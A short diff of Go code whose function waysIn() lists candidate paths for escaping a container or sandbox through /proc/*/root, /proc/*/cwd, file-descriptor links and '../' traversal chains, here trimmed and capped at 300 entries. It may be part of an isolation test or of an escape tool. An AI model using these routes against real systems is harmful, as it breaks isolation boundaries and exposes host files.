@@ -176,9 +176,9 @@ func waysIn() []string {
 	if pid, err := outsidePid(); err == nil {
 		ways = append(ways, fmt.Sprintf("/proc/%d/root", pid), fmt.Sprintf("/proc/%d/cwd/../../../../../../..", pid))
 	}
-	for _, pattern := range []string{"/proc/*/root", "/proc/*/cwd", "/proc/*/fd/*", "/dev/fd/*", "/proc/*/task/*/root"} {
+	for _, pattern := range []string{"/proc/*/root", "/proc/*/cwd", "/proc/*/fd/*", "/dev/fd/*"} {
 		found, _ := filepath.Glob(pattern)
-		for _, name := range found {
+		for _, name := range found[:min(len(found), 300)] { // of the whole machine's there are many
 			ways = append(ways, name, name+"/../../../../../../../../../..")
 		}
 	}
